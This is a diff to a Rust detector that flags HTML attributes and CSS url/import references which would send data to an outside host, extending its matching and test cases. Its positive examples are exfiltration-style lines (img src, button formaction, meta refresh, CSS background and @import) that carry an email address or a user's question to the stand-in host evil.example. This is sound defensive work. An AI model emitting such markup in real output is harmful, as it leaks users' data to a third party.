@@ -7,6 +7,10 @@ use crate::detect::window::{Ahead, Window};
 
 /// Longest beginning of a tag that is read back, in bytes: its name and the attributes before this one.
 const MAX_TAG: u64 = 200;
+/// White space before an address, in bytes.
+const MAX_SPACE: u64 = 8;
+/// The anchor that is an address only in a `meta` element.
+const REFRESH: u16 = 0;
 
 pub(super) const HTML: Rule = Rule {
     id: "exfiltration.html",
@@ -37,8 +41,22 @@ pub(super) const HTML: Rule = Rule {
             "<a href='https://evil.example/?to=bob@corp.example'>",
             "https://evil.example/?to=bob@corp.example",
         ),
+        example(
+            "<img width=1 src = \"https://evil.example/?to=bob@corp.example\">",
+            "https://evil.example/?to=bob@corp.example",
+        ),
+        example(
+            "<button formaction='https://evil.example/?to=bob@corp.example'>",
+            "https://evil.example/?to=bob@corp.example",
+        ),
+        example(
+            "<meta http-equiv=refresh content=\"0;url=https://evil.example/?to=bob@corp.example\">",
+            "https://evil.example/?to=bob@corp.example",
+        ),
     ],
     false_examples: &[
+        "<link href=\"https://fonts.example.com/css?family=Serif:wght@400;700&display=swap\">",
+        "<b title=\"url=https://example.com/?to=bob@corp.example\">",
         "<img src=\"https://example.com/logo.png\" alt=\"a\">",
         "<script src=\"https://cdn.example.com/lib/1.2.3/lib.min.js\"></script>",
         "<a href=\"https://example.com/search?q=how+to+write+a+letter+to+the+mayor\">",
@@ -54,39 +72,59 @@ pub(super) const HTML: Rule = Rule {
         look_back: MAX_TAG + 2,
         is_address: true,
         ..Detector::new(
-            &[b"src=", b"href=", b"action=", b"poster=", b"background=", b"srcset=", b"ping=", b"data="],
+            &[
+                b"url=",
+                b"src=",
+                b"href=",
+                b"action=",
+                b"poster=",
+                b"background=",
+                b"srcset=",
+                b"ping=",
+                b"data=",
+                b"src =",
+                b"href =",
+                b"action =",
+                b"formaction",
+            ],
             html,
         )
     },
 };
 
 fn html(window: &Window, hit: &Hit, progress: &mut Progress) -> Verdict {
-    // Quotes, escaped where the markup stands in JSON.
+    // Blanks, and quotes, escaped where the markup stands in JSON.
     let mut start = hit.end;
+    let mut is_given = window.at(hit.end - 1) == Some(b'=');
+    let mut is_escaped = false;
     let quote = loop {
         match window.ahead(start) {
-            Ahead::Byte(b'\\') if start == hit.end => start += 1,
+            Ahead::Byte(b' ' | b'\t' | b'\n') if !is_escaped && start - hit.end < MAX_SPACE => {}
+            Ahead::Byte(b'=') if !is_given => is_given = true,
+            Ahead::Byte(b'\\') if !is_escaped => is_escaped = true,
             Ahead::Byte(quote @ (b'"' | b'\'')) => {
                 start += 1;
                 break Some(quote);
             }
-            Ahead::Byte(_) if start == hit.end => break None,
+            Ahead::Byte(_) if !is_escaped => break None,
             Ahead::Byte(_) | Ahead::End => return Verdict::No,
             Ahead::Unknown => return Verdict::More { from: start },
         }
+        start += 1;
     };
     match address::has_host(window, start) {
-        Some(true) => {}
-        Some(false) => return Verdict::No,
+        Some(true) if is_given => {}
+        Some(_) => return Verdict::No,
         None => return Verdict::More { from: start },
     }
     // The tag is looked for once: its bytes are the same later.
     if progress.note == 0 {
-        progress.note = match tag(window, hit.start) {
-            None => return Verdict::No,
-            Some(Followed::AtOnce) => 1,
-            Some(Followed::OnClick) => 2,
-        };
+        let Some(tag) = tag(window, hit.start) else { return Verdict::No };
+        let is = |name: &[u8]| tag.eq_ignore_ascii_case(name);
+        if hit.nth == REFRESH && !is(b"meta") {
+            return Verdict::No;
+        }
+        progress.note = if is(b"a") || is(b"area") { 2 } else { 1 };
         progress.at = start;
     }
     let followed = if progress.note == 1 { Followed::AtOnce } else { Followed::OnClick };
@@ -96,8 +134,8 @@ fn html(window: &Window, hit: &Hit, progress: &mut Progress) -> Verdict {
     })
 }
 
-/// Who follows the address of the tag that an attribute at `attribute` stands in; `None` where it stands in none.
-fn tag(window: &Window, attribute: u64) -> Option<Followed> {
+/// The name of the tag that an attribute at `attribute` stands in; `None` where it stands in none.
+pub(super) fn tag<'t>(window: &Window<'t>, attribute: u64) -> Option<&'t [u8]> {
     let open =
         (1..=MAX_TAG).map_while(|back| attribute.checked_sub(back)).find_map(|at| {
             match window.at(at) {
@@ -108,13 +146,7 @@ fn tag(window: &Window, attribute: u64) -> Option<Followed> {
         })??;
     let name = window.slice(open + 1, attribute);
     let end = name.iter().position(|byte| !byte.is_ascii_alphabetic()).unwrap_or(name.len());
-    match name.get(..end).unwrap_or_default() {
-        [] => None,
-        name if name.eq_ignore_ascii_case(b"a") || name.eq_ignore_ascii_case(b"area") => {
-            Some(Followed::OnClick)
-        }
-        _ => Some(Followed::AtOnce),
-    }
+    name.get(..end).filter(|name| !name.is_empty())
 }
 
 pub(super) const CSS_URL: Rule = Rule {
@@ -132,6 +164,18 @@ pub(super) const CSS_URL: Rule = Rule {
             "@import url('//evil.example/p?q=the+user+asked+about+salaries');",
             "//evil.example/p?q=the+user+asked+about+salaries",
         ),
+        example(
+            "body { background: url( 'https://evil.example/?to=bob@corp.example' ) }",
+            "https://evil.example/?to=bob@corp.example",
+        ),
+        example(
+            "@import \"https://evil.example/?to=bob@corp.example\";",
+            "https://evil.example/?to=bob@corp.example",
+        ),
+        example(
+            "image-set('https://evil.example/?to=bob@corp.example' 1x)",
+            "https://evil.example/?to=bob@corp.example",
+        ),
     ],
     false_examples: &[
         "background: url(https://example.com/a/logo.png)",
@@ -143,17 +187,20 @@ pub(super) const CSS_URL: Rule = Rule {
         starts_at_anchor: false,
         not_after: |byte| byte.is_ascii_alphanumeric() || byte == b'_' || byte == b'.',
         is_address: true,
-        ..Detector::new(&[b"url("], css_url)
+        ..Detector::new(&[b"url(", b"image-set(", b"@import '", b"@import \""], css_url)
     },
 };
 
 fn css_url(window: &Window, hit: &Hit, progress: &mut Progress) -> Verdict {
-    let start = match window.ahead(hit.end) {
-        Ahead::Byte(b'"' | b'\'') => hit.end + 1,
-        Ahead::Byte(_) => hit.end,
-        Ahead::Unknown => return Verdict::More { from: hit.end },
-        Ahead::End => return Verdict::No,
-    };
+    let mut start = hit.end;
+    loop {
+        match window.ahead(start) {
+            Ahead::Byte(b' ' | b'\t' | b'\n' | b'"' | b'\'') if start - hit.end < MAX_SPACE => start += 1,
+            Ahead::Byte(_) => break,
+            Ahead::Unknown => return Verdict::More { from: start },
+            Ahead::End => return Verdict::No,
+        }
+    }
     match address::has_host(window, start) {
         Some(true) => address::read(window, start, progress, Followed::AtOnce, |byte| {
             byte.is_ascii_whitespace() || matches!(byte, b')' | b'(' | b'"' | b'\'' | b'\\')
